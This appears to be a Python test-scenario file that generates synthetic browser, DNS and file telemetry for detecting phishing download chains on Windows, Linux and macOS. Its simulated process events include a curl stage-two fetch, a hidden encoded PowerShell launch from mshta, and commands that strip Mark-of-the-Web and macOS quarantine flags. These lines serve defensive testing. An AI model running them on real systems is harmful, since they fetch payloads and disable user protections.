    w.write(606.0, edge, DL + "Unconfirmed 553100.crdownload")
    w.rename(610.0, edge, DL + "Unconfirmed 553100.crdownload", DL + "Invoice_5531.exe",
             strip_none(motw("https://payment-notice.top/files/Invoice_5531.exe", "https://t.co/")))


@scenario("domain-from-click-url")
def _(s):
    pay_notice(s.host(WIN, "windows"), s, dns=False, event_domain=False)


@scenario("domain-ip-only-no-name", "domain-ip-only-no-name-allowed-cidr")
def _(s):
    w = s.host(WIN, "windows")
    win_desktop(w, s)
    edge, net = edge_from_desktop(w, s, 20.0)
    w.connect(300.0, net, "203.0.113.200", 8080)
    w.write(320.0, edge, DL + "update.hta", origin=strip_none(motw("http://203.0.113.200:8080/update.hta")))


@scenario("domain-ip-click-url")
def _(s):
    w = s.host(WIN, "windows")
    win_desktop(w, s)
    edge, net = edge_from_outlook(w, s, 300.0, "http://203.0.113.200:8080/update.hta")
    w.connect(300.4, net, "203.0.113.200", 8080)
    w.write(320.0, edge, DL + "update.hta", origin=strip_none(motw("http://203.0.113.200:8080/update.hta")))


def dns_ttl(w, s, connect_at):
    win_desktop(w, s)
    edge, net = edge_from_desktop(w, s, 20.0)
    w.dns(100.0, edge, "fonts-update.top", ["203.0.113.210"])
    w.connect(connect_at, net, "203.0.113.210")
    w.write(710.0, edge, DL + "FontPack_Installer.exe", origin={"zone": 3, "url": "about:internet"})


@scenario("dns-ttl-edge-inside")
def _(s):
    dns_ttl(s.host(WIN, "windows"), s, 700.000)


@scenario("dns-ttl-edge-outside")
def _(s):
    dns_ttl(s.host(WIN, "windows"), s, 700.001)


def dns_after_connect(w, s, name, ip, late, origin):
    """Edge's network service connects to `ip`; the answer naming it is logged `late` s later."""
    win_desktop(w, s)
    edge, net = edge_from_desktop(w, s, 20.0)
    w.connect(300.0, net, ip)
    w.dns(300.0 + late, edge, name, [ip])
    w.write(318.0, edge, DL + "Unconfirmed 220417.crdownload")
    w.rename(321.0, edge, DL + "Unconfirmed 220417.crdownload", DL + "Shipment_Label.exe", strip_none(motw(origin)))


@scenario("dns-after-connect-names-trusted")
def _(s):
    dns_after_connect(s.host(WIN, "windows"), s, "www.microsoft.com", "198.51.100.31", 0.035, "about:internet")


@scenario("dns-after-connect-beyond-grace")
def _(s):
    dns_after_connect(s.host(WIN, "windows"), s, "www.microsoft.com", "198.51.100.31", 2.001, "about:internet")


@scenario("dns-after-connect-grace-edge")
def _(s):
    dns_after_connect(s.host(WIN, "windows"), s, "parcel-notice.top", "203.0.113.61", 2.000,
                      "https://parcel-notice.top/label/Shipment_Label.exe")


@scenario("dns-same-root-preferred")
def _(s):
    w = s.host(WIN, "windows")
    w.start(0.0, g(s, "explorer"), EXPLORER, None, r"C:\Windows\Explorer.EXE", ALICE)
    chrome, net = chrome_from_desktop(w, s, 20.0)
    w.start(30.0, g(s, "firefox"), FIREFOX_W, g(s, "explorer"), f'"{FIREFOX_W}"', ALICE)
    # One shared-hosting address answers for a mirror (asked by Chrome) and a .top name (asked by Firefox).
    w.dns(100.0, chrome, "download.example-mirror.com", ["198.51.100.25"])
    w.dns(101.0, g(s, "firefox"), "payload-drop.top", ["198.51.100.25"])
    w.connect(102.0, net, "198.51.100.25")
    w.write(110.0, chrome, DL + "mirror-tool-2.1.exe",
            origin=strip_none(motw("https://download.example-mirror.com/mirror-tool/mirror-tool-2.1.exe")))


@scenario("origin-on-different-trusted-domain-weak")
def _(s):
    w = s.host(WIN, "windows")
    win_desktop(w, s)
    edge, net = edge_from_outlook(w, s, 600.0, "https://docs-portal.top/share/77")
    w.dns(600.6, edge, "docs-portal.top", ["203.0.113.70"])
    w.connect(600.8, net, "203.0.113.70")
    w.dns(630.0, edge, "cdn.filehost-mirror.net", ["198.51.100.71"])
    w.connect(630.2, net, "198.51.100.71")
    w.write(631.0, edge, DL + "Contract_77.docm.crdownload")
    w.rename(640.0, edge, DL + "Contract_77.docm.crdownload", DL + "Contract_77.docm",
             strip_none(motw("https://cdn.filehost-mirror.net/f/77/Contract_77.docm", "https://docs-portal.top/share/77")))


def address_only_then_trusted_download(s, connect_at):
    """A browser resolving names over HTTPS: no DNS answers, connects carry no name. It reaches
    an address at `connect_at`; the file saved at 409 s has a MotW naming a government site."""
    w = s.host(WIN, "windows")
    win_desktop(w, s)
    edge, net = edge_from_desktop(w, s, 20.0)
    w.connect(connect_at, net, "203.0.113.90")
    w.write(404.0, edge, DL + "Unconfirmed 771203.crdownload")
    w.rename(409.0, edge, DL + "Unconfirmed 771203.crdownload", DL + "fw4_2024.pdf",
             strip_none(motw("https://www.irs.gov/pub/irs-pdf/fw4.pdf", "https://www.irs.gov/forms-pubs")))


@scenario("address-only-egress-trusted-origin", "address-only-egress-trusted-origin-min-weak")
def _(s):
    address_only_then_trusted_download(s, 400.0)


@scenario("address-only-egress-before-gap-trusted-origin-min-weak")
def _(s):
    # 5 min before the download from the trusted host: not the connection that fetched it.
    address_only_then_trusted_download(s, 100.0)


def referrer_origin(w, s, referrer, ad_host, write_at):
    """Chrome reaches `ad_host` (a risky ad host) at 120.2 s; a page-built download (HostUrl
    about:internet) whose MotW ReferrerUrl is `referrer` gets its name at `write_at`."""
    w.start(0.0, g(s, "explorer"), EXPLORER, None, r"C:\Windows\Explorer.EXE", ALICE)
    chrome, net = chrome_from_desktop(w, s, 20.0)
    w.dns(120.0, chrome, ad_host, ["203.0.113.95"])
    w.connect(120.2, net, "203.0.113.95")
    w.write(write_at - 5.0, chrome, DL + "Unconfirmed 118802.crdownload")
    w.rename(write_at, chrome, DL + "Unconfirmed 118802.crdownload", DL + "statement_0611.zip",
             strip_none(motw("about:internet", referrer)))


@scenario("referrer-names-trusted-origin")
def _(s):
    referrer_origin(s.host(WIN, "windows"), s, "https://online.examplebank.com/statements", "ads.promo-tracker.xyz",
                    150.0)


@scenario("referrer-names-egress-domain")
def _(s):
    referrer_origin(s.host(WIN, "windows"), s, "https://portal.promo-tracker.xyz/claim", "ads.promo-tracker.xyz",
                    420.0)


@scenario("two-writes-same-file")
def _(s):
    w = s.host(WIN, "windows")
    w.start(0.0, g(s, "explorer"), EXPLORER, None, r"C:\Windows\Explorer.EXE", ALICE)
    chrome, net = chrome_from_desktop(w, s, 20.0)
    w.dns(100.0, chrome, "fastdl-center.top", ["203.0.113.140"])
    w.connect(100.2, net, "203.0.113.140")
    origin = strip_none(motw("https://fastdl-center.top/get/Invoice_0526.exe"))
    w.write(110.0, chrome, DL + "Invoice_0526.exe", origin=origin)
    # Downloaded again a minute later, replacing the first copy (spelled differently).
    w.connect(169.0, net, "203.0.113.140")
    w.write(170.0, chrome, DL + "invoice_0526.EXE", origin=origin)


def dyndns(w, s, host):
    win_desktop(w, s)
    url = f"https://{host}/d/0527"
    edge, net = edge_from_outlook(w, s, 600.0, url)
    w.dns(600.6, edge, host, ["203.0.113.160"])
    w.connect(600.8, net, "203.0.113.160")
    w.write(606.0, edge, DL + "Unconfirmed 270527.crdownload")
    w.rename(611.0, edge, DL + "Unconfirmed 270527.crdownload", DL + "Shared_Invoice_0527.exe",
             strip_none(motw(f"https://{host}/f/Shared_Invoice_0527.exe", url)))


@scenario("dyndns-plain-below-threshold", "dyndns-plain-risk-score-30")
def _(s):
    dyndns(s.host(WIN, "windows"), s, "invoice-share.duckdns.org")


@scenario("dyndns-risky-label")
def _(s):
    dyndns(s.host(WIN, "windows"), s, "office365-secure-login-portal.duckdns.org")


@scenario("follow-on-variety")
def _(s):
    w = s.host(WIN, "windows")
    win_desktop(w, s)
    edge, net = edge_from_outlook(w, s, 600.0, "https://invoice-portal.top/view?id=0527")
    w.dns(600.7, edge, "invoice-portal.top", ["203.0.113.77"])
    w.connect(600.9, net, "203.0.113.77")
    w.write(605.0, edge, DL + "Unconfirmed 220527.crdownload")
    w.rename(609.0, edge, DL + "Unconfirmed 220527.crdownload", DL + "Invoice_0527.exe",
             strip_none(motw("https://invoice-portal.top/files/Invoice_0527.exe")))
    # The user unblocks the file, runs it; it starts a shell.
    w.start(680.0, g(s, "ps"), POWERSHELL, g(s, "explorer"),
            f'"{POWERSHELL}" -NoProfile -Command "Unblock-File -Path {DL}Invoice_0527.exe"', ALICE)
    w.attr(681.0, g(s, "ps"), DL + "Invoice_0527.exe:Zone.Identifier", "motw_removed")
    w.end(682.0, g(s, "ps"))
    w.start(700.0, g(s, "payload"), DL + "Invoice_0527.exe", g(s, "explorer"), f'"{DL}Invoice_0527.exe" ', ALICE)
    w.start(702.0, g(s, "cmd"), CMD, g(s, "payload"), r"C:\Windows\system32\cmd.exe /c whoami /all", ALICE)
    w.start(702.05, g(s, "conhost"), CONHOST, g(s, "cmd"), r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1", ALICE)
    w.start(702.2, g(s, "whoami"), WHOAMI, g(s, "cmd"), "whoami  /all", ALICE)
    # After the window (click + 15 min) it runs again: not reported.
    w.start(1600.0, g(s, "payload2"), DL + "Invoice_0527.exe", g(s, "explorer"), f'"{DL}Invoice_0527.exe" ', ALICE)


@scenario("follow-on-lolbin-child-of-root")
def _(s):
    w = s.host(WIN, "windows")
    win_desktop(w, s)
    doc = r"C:\Users\alice\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\Q8ZK2M1L\Remittance_0528.docm"
    w.write(590.0, g(s, "outlook"), doc)
    w.start(600.0, g(s, "word"), WINWORD, g(s, "outlook"), f'"{WINWORD}" /n "{doc}" /o ""', ALICE)
    # Remote template / macro download from a .top domain, dropping an HTA into %TEMP%.
    w.dns(601.0, g(s, "word"), "remittance-docs.top", ["203.0.113.88"])
    w.connect(601.5, g(s, "word"), "203.0.113.88")
    w.write(603.0, g(s, "word"), r"C:\Users\alice\AppData\Local\Temp\update.hta")
    w.start(610.0, g(s, "mshta"), MSHTA, g(s, "word"), f'"{MSHTA}" "C:\\Users\\alice\\AppData\\Local\\Temp\\update.hta"', ALICE)
    w.start(612.0, g(s, "ps"), POWERSHELL, g(s, "mshta"),
            f'"{POWERSHELL}" -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=', ALICE)


@scenario("an0178-archive-member-7zip")
def _(s):
    w = s.host(WIN, "windows")
    win_desktop(w, s)
    edge, net = edge_from_outlook(w, s, 600.0, "https://invoice-portal.top/view?id=0529")
    w.dns(600.7, edge, "invoice-portal.top", ["203.0.113.77"])
    w.connect(600.9, net, "203.0.113.77")
    w.write(605.0, edge, DL + "Unconfirmed 530291.crdownload")
    w.rename(609.0, edge, DL + "Unconfirmed 530291.crdownload", DL + "Invoice_0529.zip",
             strip_none(motw("https://invoice-portal.top/files/Invoice_0529.zip")))
    # "Open file" in Edge's download bubble: 7-Zip opens the archive; a member is extracted to %TEMP%.
    w.start(630.0, g(s, "7z"), SEVENZIP, edge, f'"{SEVENZIP}" "{DL}Invoice_0529.zip"', ALICE)
    w.write(650.0, g(s, "7z"), r"C:\Users\alice\AppData\Local\Temp\7zO8C1D2E3F\Invoice_0529.pdf")


@scenario("risk-score-dga-domain")
def _(s):
    w = s.host(WIN, "windows")
    w.start(0.0, g(s, "explorer"), EXPLORER, None, r"C:\Windows\Explorer.EXE", ALICE)
    chrome, net = chrome_from_desktop(w, s, 20.0)
    w.dns(300.0, chrome, "x7kq2m9vz4hd1w.com", ["198.51.100.201"])
    w.connect(300.2, net, "198.51.100.201")
    w.write(330.0, chrome, DL + "document_viewer.msi", origin={"zone": 3, "url": "about:internet"})


def intranet_download(w, s, link, t, file, origin):
    """Outlook -> msedge with a link on the intranet address 10.20.30.40, which it connects to;
    `file` is written at `t` with its MotW HostUrl `origin` (intranet zone)."""
    win_desktop(w, s)
    edge, net = edge_from_outlook(w, s, 600.0, link)
    w.connect(600.4, net, "10.20.30.40", 80)
    w.write(t, edge, DL + file, origin=strip_none({"zone": 1, "url": origin}))


@scenario("egress-intranet-private-ip", "egress-intranet-private-ip-untrusted-cidr",
          "egress-intranet-private-ip-untrusted-cidr-other-range")
def _(s):
    url = "http://10.20.30.40/tools/PortableGit-2.45.1-64-bit.7z.exe"
    intranet_download(s.host(WIN, "windows"), s, url, 604.0, "PortableGit-2.45.1-64-bit.7z.exe", url)


@scenario("untrusted-cidr-origin-on-another-lab-address")
def _(s):
    # A phishing-test lab: the page on one lab address, the file served from another.
    intranet_download(s.host(WIN, "windows"), s, "http://10.20.30.40/benefits/enroll", 640.0,
                      "Benefits_Enrollment.exe", "http://10.20.30.41/files/Benefits_Enrollment.exe")


def out_of_order_events(w, s):
    """The AN0178 invoice chain as (time, emitter) pairs, keyed for reordering."""
    edge, net, ol, ex = g(s, "edge"), g(s, "edge-net"), g(s, "outlook"), g(s, "explorer")
    crd = DL + "Unconfirmed 481516.crdownload"
    origin = strip_none(motw("https://dl.invoice-portal.top/files/Invoice_0514.pdf.exe",
                             "https://invoice-portal.top/view?id=0514"))
    return {
        "explorer": lambda: w.start(0.0, ex, EXPLORER, None, r"C:\Windows\Explorer.EXE", ALICE),
        "outlook": lambda: w.start(5.0, ol, OUTLOOK, ex, f'"{OUTLOOK}" ', ALICE),
        "edge": lambda: w.start(600.0, edge, EDGE, ol,
                                f'"{EDGE}" --single-argument https://invoice-portal.top/view?id=0514', ALICE),
        "net": lambda: w.start(600.4, net, EDGE, edge, f'"{EDGE}" {NETWORK_SERVICE}', ALICE),
        "dns1": lambda: w.dns(600.7, edge, "invoice-portal.top", ["203.0.113.77"]),
        "conn1": lambda: w.connect(600.9, net, "203.0.113.77"),
        "dns2": lambda: w.dns(608.0, edge, "dl.invoice-portal.top", ["203.0.113.78"]),
        "conn2": lambda: w.connect(608.3, net, "203.0.113.78"),
        "partial": lambda: w.write(609.0, edge, crd),
        "rename": lambda: w.rename(612.0, edge, crd, DL + "Invoice_0514.pdf.exe", origin),
    }


@scenario("out-of-order-within-lateness")
def _(s):
    s.keep_order = True
    w = s.host(WIN, "windows")
    e = out_of_order_events(w, s)
    for k in ["explorer", "outlook", "net", "edge", "conn1", "dns1", "partial", "rename"]:
        e[k]()
    # 613.000 s: the newest event so far; the watermark is now 608.000 s.
    w.dns(613.0, g(s, "edge"), "www.bing.com", ["198.51.100.3"])
    e["dns2"]()  # 608.000 s: exactly AllowedLateness (5 s) behind the newest event: accepted
    e["conn2"]()  # 608.300 s


@scenario("out-of-order-beyond-lateness")
def _(s):
    s.keep_order = True
    w = s.host(WIN, "windows")
    e = out_of_order_events(w, s)
    # No DNS answers: with one on the file's origin domain, it would stand for the egress.
    for k in ["explorer", "outlook", "edge", "net", "partial", "rename"]:
        e[k]()
    w.dns(613.301, g(s, "edge"), "www.bing.com", ["198.51.100.3"])
    e["conn2"]()  # 608.300 s: 5.001 s behind the newest event: dropped as late (the only egress)


# ----------------------------------------------------------------------------------------------
# Linux (AN0179)

FIREFOX_L = "/usr/lib/firefox/firefox"
THUNDERBIRD = "/usr/lib/thunderbird/thunderbird"
XDG_OPEN = "/usr/bin/xdg-open"
CHROME_L = "/opt/google/chrome/chrome"


def linux_desktop(l, user="bob"):
    l.start(0.0, 1500, "/usr/bin/gnome-shell", None, "/usr/bin/gnome-shell", user)
    l.start(2.0, 2100, THUNDERBIRD, 1500, THUNDERBIRD, user)
    l.start(3.0, 1600, "/usr/libexec/gnome-terminal-server", 1500, "/usr/libexec/gnome-terminal-server", user)
    l.start(4.0, 1610, "/usr/bin/bash", 1600, "bash", user)


def thunderbird_chain(l, t=300.0, follow_on=True):
    l.start(t, 2300, XDG_OPEN, 2100, f"{XDG_OPEN} https://docs-share.xyz/d/q3", "bob")
    l.start(t + 0.2, 2310, FIREFOX_L, 2300, f"{FIREFOX_L} https://docs-share.xyz/d/q3", "bob")
    l.dns(t + 1.0, None, "docs-share.xyz", ["198.51.100.66"])
    l.connect(t + 1.3, 2310, "198.51.100.66")
    l.write(t + 5.0, 2310, "/home/bob/Downloads/q3-report.sh.part")
    l.rename(t + 7.0, 2310, "/home/bob/Downloads/q3-report.sh.part", "/home/bob/Downloads/q3-report.sh",
             {"url": "https://docs-share.xyz/d/q3/q3-report.sh"})
    if follow_on:
        l.start(t + 60.0, 2400, "/usr/bin/bash", 1610, "bash /home/bob/Downloads/q3-report.sh", "bob")
        l.start(t + 61.0, 2410, "/usr/bin/curl", 2400, "curl -fsSL http://198.51.100.70/stage2 -o /tmp/.s2", "bob")


@scenario("an0179-thunderbird-xdg-open-firefox-part")
def _(s):
    l = s.host("dev-laptop", "linux")
    linux_desktop(l)
    thunderbird_chain(l)


@scenario("partial-origin-carried-by-rename")
def _(s):
    l = s.host("dev-laptop", "linux")
    linux_desktop(l)
    l.start(10.0, 3200, CHROME_L, 1500, CHROME_L, "bob")
    l.start(10.5, 3205, CHROME_L, 3200, f"{CHROME_L} {NETWORK_SERVICE}", "bob")
    l.dns(300.0, None, "invoice-viewer.top", ["198.51.100.140"])
    l.connect(300.3, 3205, "198.51.100.140")
    # Chrome records user.xdg.origin.url on the file while it downloads; the rename carries none.
    l.write(305.0, 3200, "/home/bob/Downloads/Unconfirmed 902113.crdownload",
            origin={"url": "https://invoice-viewer.top/get/Invoice_0519.jar"})
    l.rename(500.0, 3200, "/home/bob/Downloads/Unconfirmed 902113.crdownload", "/home/bob/Downloads/Invoice_0519.jar")


@scenario("two-hosts-interleaved")
def _(s):
    w = s.host(WIN, "windows")
    win_desktop(w, s)
    invoice_chain(w, s, 600.0)
    l = s.host("dev-laptop", "linux")
    linux_desktop(l)
    thunderbird_chain(l, 600.1)


@scenario("two-hosts-no-cross-host-join")
def _(s):
    a = s.host("dev-laptop", "linux")
    b = s.host("dev-laptop-2", "linux")
    for h, user in [(a, "bob"), (b, "erin")]:
        h.start(0.0, 1500, "/usr/bin/gnome-shell", None, "/usr/bin/gnome-shell", user)
        h.start(20.0, 3100, FIREFOX_L, 1500, FIREFOX_L, user)
    a.dns(300.0, None, "crypto-airdrop.top", ["203.0.113.99"])
    a.connect(300.2, 3100, "203.0.113.99")
    b.dns(305.0, None, "en.wikipedia.org", ["198.51.100.60"])
    b.connect(305.2, 3100, "198.51.100.60")
    b.write(310.0, 3100, "/home/erin/Downloads/airdrop-claim.sh")


# ----------------------------------------------------------------------------------------------
# macOS (AN0180)

MAC_CHROME = "/Applications/Google Chrome.app/Contents/MacOS/Google Chrome"
MAC_HELPER = ("/Applications/Google Chrome.app/Contents/Frameworks/Google Chrome Framework.framework/Versions/"
              "124.0.6367.119/Helpers/Google Chrome Helper.app/Contents/MacOS/Google Chrome Helper")
SAFARI = "/Applications/Safari.app/Contents/MacOS/Safari"
WEBKIT_NET = ("/System/Library/Frameworks/WebKit.framework/Versions/A/XPCServices/"
              "com.apple.WebKit.Networking.xpc/Contents/MacOS/com.apple.WebKit.Networking")
MDL = "/Users/carol/Downloads/"


def mac_chrome(m):
    m.start(0.0, "1:100", "/sbin/launchd", None, None, "root")
    m.start(10.0, "1790:4988", MAC_CHROME, "1:100", MAC_CHROME, "carol")
    m.start(10.5, "1834:5021", MAC_HELPER, "1790:4988",
            f"{MAC_HELPER} --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US")
    return "1790:4988", "1834:5021"


def mac_click(m, chrome, helper, url, name, ip, t=600.0):
    m.url_open(t, chrome, url)
    m.dns(t + 0.2, chrome, name, [ip])
    m.connect(t + 0.4, helper, ip)


def quarantine_visible(m, chrome):
    """An earlier download got its quarantine flag: this host's log shows quarantine flags, so a
    missing one is a finding (hosts whose inputs never show one are `quarantine_unknown`)."""
    m.attr(300.0, chrome, MDL + "earlier-download.dmg", "quarantine_set")


def mac_trailer(m, chrome, helper, t=700.0):
    """Later, unrelated trusted browsing (so every quarantine grace period has passed)."""
    m.dns(t, chrome, "www.apple.com", ["198.51.100.81"])
    m.connect(t + 0.2, helper, "198.51.100.81")


@scenario("an0180-chrome-helper-quarantine-set")
def _(s):
    m = s.host("mbp-7", "macos")
    chrome, helper = mac_chrome(m)
    mac_click(m, chrome, helper, "https://payroll-update.monster/q2/statement", "payroll-update.monster", "203.0.113.90")
    m.write(606.0, chrome, MDL + "PayrollUpdate.dmg.crdownload")
    m.attr(606.1, chrome, MDL + "PayrollUpdate.dmg.crdownload", "quarantine_set")
    m.rename(609.0, chrome, MDL + "PayrollUpdate.dmg.crdownload", MDL + "PayrollUpdate.dmg",
             {"url": "https://payroll-update.monster/dl/PayrollUpdate.dmg", "agent": "Google Chrome"})
    mac_trailer(m, chrome, helper)


def mac_idn_download(m, host, file):
    """Chrome on macOS opens a link on `host` (as the DNS answer and URLs write it: Unicode) and
    downloads `file`, quarantined."""
    chrome, helper = mac_chrome(m)
    mac_click(m, chrome, helper, f"https://{host}/account", host, "203.0.113.95")
    m.write(606.0, chrome, MDL + file + ".crdownload")
    m.attr(606.1, chrome, MDL + file + ".crdownload", "quarantine_set")
    m.rename(609.0, chrome, MDL + file + ".crdownload", MDL + file,
             {"url": f"https://{host}/dl/{file}", "agent": "Google Chrome"})
    mac_trailer(m, chrome, helper)


@scenario("an0180-lookalike-apple-id-unicode")
def _(s):
    # "аррӏе" in Cyrillic, then "-id" in Latin.
    mac_idn_download(s.host("mbp-7", "macos"), "аррӏе-id.com", "AppleID_Unlock.dmg")


@scenario("an0180-idn-cyrillic-single-script")
def _(s):
    # яндекс.рф: a real single-script Cyrillic name under a Cyrillic TLD.
    mac_idn_download(s.host("mbp-7", "macos"), "яндекс.рф", "Browser.dmg")


def payroll_pkg(s, visible, stated=None):
    """Chrome writes `PayrollHelper.pkg` from `payroll-update.monster` and no `quarantine_set`
    follows; `visible`: an earlier flag shows the host's log reports them; `stated`: the write's
    own `quarantine` field (None: not stated)."""
    m = s.host("mbp-7", "macos")
    chrome, helper = mac_chrome(m)
    if visible:
        quarantine_visible(m, chrome)
    mac_click(m, chrome, helper, "https://payroll-update.monster/q2/statement", "payroll-update.monster", "203.0.113.90")
    origin = {"url": "https://payroll-update.monster/dl/PayrollHelper.pkg", "agent": "Google Chrome"}
    if stated is not None:
        origin["quarantine"] = stated
    m.write(609.0, chrome, MDL + "PayrollHelper.pkg", origin=origin)
    mac_trailer(m, chrome, helper)


@scenario("an0180-quarantine-missing-with-chain", "quarantine-missing-at-end-of-input-with-a-held-rule")
def _(s):
    payroll_pkg(s, visible=True)


@scenario("an0180-quarantine-missing-no-chain")
def _(s):
    m = s.host("mbp-7", "macos")
    chrome, helper = mac_chrome(m)
    quarantine_visible(m, chrome)
    mac_click(m, chrome, helper, "https://zoom.us/download", "zoom.us", "198.51.100.85")
    m.dns(605.0, chrome, "cdn.zoom.us", ["198.51.100.86"])
    m.connect(605.2, helper, "198.51.100.86")
    m.write(609.0, chrome, MDL + "Zoom.pkg", origin={"url": "https://cdn.zoom.us/prod/6.0.11.35001/Zoom.pkg"})
    mac_trailer(m, chrome, helper)


@scenario("an0180-quarantine-invisible-no-finding")
def _(s):
    # On a host whose inputs never show a quarantine flag (ECS, say).
    payroll_pkg(s, visible=False)


@scenario("an0180-quarantine-field-says-missing")
def _(s):
    # A native source that states the flag with the write: it can report quarantine.
    payroll_pkg(s, visible=False, stated=False)


def grace(m, set_at):
    chrome, helper = mac_chrome(m)
    mac_click(m, chrome, helper, "https://remote-support.click/session/4471", "remote-support.click", "203.0.113.95")
    m.write(609.0, chrome, MDL + "TeamViewerQS.dmg",
            origin={"url": "https://remote-support.click/dl/TeamViewerQS.dmg", "agent": "Google Chrome"})
    m.attr(set_at, chrome, MDL + "TeamViewerQS.dmg", "quarantine_set")
    mac_trailer(m, chrome, helper)


@scenario("an0180-quarantine-grace-inside")
def _(s):
    grace(s.host("mbp-7", "macos"), 639.000)


@scenario("an0180-quarantine-grace-outside")
def _(s):
    grace(s.host("mbp-7", "macos"), 639.001)


@scenario("an0180-quarantine-missing-var-folders")
def _(s):
    m = s.host("mbp-7", "macos")
    chrome, helper = mac_chrome(m)
    quarantine_visible(m, chrome)
    mac_click(m, chrome, helper, "https://zoom-meeting.click/j/88120044", "zoom-meeting.click", "203.0.113.97")
    m.write(630.0, chrome, "/private/var/folders/7h/k3lz5x9n1qd2b0w8m4v6c0hr0000gn/T/TemporaryItems/"
                           "NSIRD_Google Chrome_r2A9sL/zoom-join.command")
    mac_trailer(m, chrome, helper)


@scenario("an0180-safari-download-bundle")
def _(s):
    m = s.host("mbp-12", "macos")
    m.start(0.0, "1:100", "/sbin/launchd", None, None, "root")
    m.start(10.0, "2210:6012", SAFARI, "1:100", SAFARI, "dave")
    # The networking XPC service, parented to Safari by its responsible process.
    m.start(10.5, "2215:6020", WEBKIT_NET, "2210:6012", WEBKIT_NET, "dave")
    m.url_open(300.0, "2210:6012", "https://adobe-flash-update.top/install")
    m.dns(300.2, "2215:6020", "adobe-flash-update.top", ["203.0.113.150"])
    m.connect(300.4, "2215:6020", "203.0.113.150")
    bundle = "/Users/dave/Downloads/FlashPlayer.pkg.download/FlashPlayer.pkg"
    m.write(305.0, "2215:6020", bundle)
    m.attr(305.1, "2215:6020", bundle, "quarantine_set")
    m.rename(312.0, "2215:6020", bundle, "/Users/dave/Downloads/FlashPlayer.pkg",
             {"url": "https://adobe-flash-update.top/dl/FlashPlayer.pkg", "agent": "Safari"})
    m.dns(400.0, "2215:6020", "www.apple.com", ["198.51.100.81"])
    m.connect(400.2, "2215:6020", "198.51.100.81")


@scenario("an0180-follow-on-xattr-quarantine-removed", "macos-quarantine-stripped-never-run")
def _(s):
    m = s.host("mbp-7", "macos")
    chrome, helper = mac_chrome(m)
    terminal = "/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal"
    m.start(20.0, "700:800", terminal, "1:100", terminal, "carol")
    m.start(20.5, "710:810", "/bin/zsh", "700:800", "-zsh", "carol")
    mac_click(m, chrome, helper, "https://payroll-update.monster/q2/statement", "payroll-update.monster", "203.0.113.90")
    m.write(606.0, chrome, MDL + "PayrollUpdate.dmg.crdownload")
    m.attr(606.1, chrome, MDL + "PayrollUpdate.dmg.crdownload", "quarantine_set")
    m.rename(609.0, chrome, MDL + "PayrollUpdate.dmg.crdownload", MDL + "PayrollUpdate.dmg",
             {"url": "https://payroll-update.monster/dl/PayrollUpdate.dmg", "agent": "Google Chrome"})
    # Following the page's "installation instructions" in Terminal.
    m.start(680.0, "720:820", "/usr/bin/xattr", "710:810", "xattr -d com.apple.quarantine /Users/carol/Downloads/PayrollUpdate.dmg", "carol")
    m.attr(680.2, "720:820", MDL + "PayrollUpdate.dmg", "quarantine_removed")
    m.end(680.3, "720:820")
    m.start(690.0, "730:830", "/usr/bin/hdiutil", "710:810", "hdiutil attach /Users/carol/Downloads/PayrollUpdate.dmg", "carol")
    mac_trailer(m, chrome, helper)


def follow_on_in_grace(m, second_download):
    chrome, helper = mac_chrome(m)
    mac_click(m, chrome, helper, "https://payroll-update.monster/q2", "payroll-update.monster", "203.0.113.90")
    m.write(620.0, chrome, MDL + "PayrollHelper.pkg",
            origin={"url": "https://payroll-update.monster/dl/PayrollHelper.pkg", "agent": "Google Chrome"})
    m.attr(620.1, chrome, MDL + "PayrollHelper.pkg", "quarantine_set")
    # Five seconds later the user installs it (within the 30 s quarantine grace).
    m.start(625.0, "2231:5141", "/usr/sbin/installer", "1:100",
            "/usr/sbin/installer -pkg /Users/carol/Downloads/PayrollHelper.pkg -target CurrentUserHomeDirectory", "carol")
    if second_download:
        m.write(630.0, chrome, MDL + "Payroll_Q2_summary.pdf",
                origin={"url": "https://payroll-update.monster/dl/Payroll_Q2_summary.pdf", "agent": "Google Chrome"})
        m.attr(630.1, chrome, MDL + "Payroll_Q2_summary.pdf", "quarantine_set")
    m.end(640.0, "2231:5141")
    mac_trailer(m, chrome, helper)


@scenario("an0180-follow-on-during-quarantine-grace")
def _(s):
    follow_on_in_grace(s.host("mbp-7", "macos"), False)


@scenario("an0180-follow-on-during-quarantine-grace-second-download")
def _(s):
    follow_on_in_grace(s.host("mbp-7", "macos"), True)


# ----------------------------------------------------------------------------------------------
# Rule variants (docs/rules.md): each runs with a .toml that enables it.


@scenario("redirect-chain-hop-then-payload")
def _(s):
    # A link through a redirector on another untrusted registrable domain, then the payload host.
    w = s.host(WIN, "windows")
    win_desktop(w, s)
    invoice_chain(w, s, hop=("go.link-hop.top", "203.0.113.61"))


@scenario("redirect-chain-one-registrable-domain", "mail-payload-outlook-link-executable")
def _(s):
    # The AN0178 chain: two names (invoice-portal.top, dl.invoice-portal.top), one registrable
    # domain; the download is an executable.
    w = s.host(WIN, "windows")
    win_desktop(w, s)
    invoice_chain(w, s)


def iso_download(w, s, edge, net, t):
    w.dns(t + 0.7, edge, "docs-share.top", ["203.0.113.64"])
    w.connect(t + 0.9, net, "203.0.113.64")
    w.write(t + 9.0, edge, DL + "Unconfirmed 612201.crdownload")
    w.rename(t + 12.0, edge, DL + "Unconfirmed 612201.crdownload", DL + "Remittance_0612.iso",
             strip_none(motw("https://docs-share.top/d/Remittance_0612.iso")))


def outlook_iso(s):
    """A link clicked in Outlook downloads a disk image; returns the host."""
    w = s.host(WIN, "windows")
    win_desktop(w, s)
    edge, net = edge_from_outlook(w, s, 600.0, "https://docs-share.top/d/Remittance_0612")
    iso_download(w, s, edge, net, 600.0)
    return w


@scenario("mail-payload-outlook-link-iso", "container-run-iso-never-opened")
def _(s):
    # A link clicked in Outlook downloads a disk image (never opened).
    outlook_iso(s)


@scenario("mail-payload-browser-root-iso")
def _(s):
    # The same disk image, but Edge was started from the taskbar: the link root is a browser.
    w = s.host(WIN, "windows")
    win_desktop(w, s)
    edge, net = edge_from_desktop(w, s, 600.0)
    iso_download(w, s, edge, net, 600.0)


# Logon sessions: a terminal server where alice is logged on twice (console and RDP). The
# Windows forms leave out the starts make_sysmon_scenarios.py's UNLOGGED_STARTS names (Security
# only, see there): the engine must attach such a process by image, user and logon session.
RDS = "RDS-01"
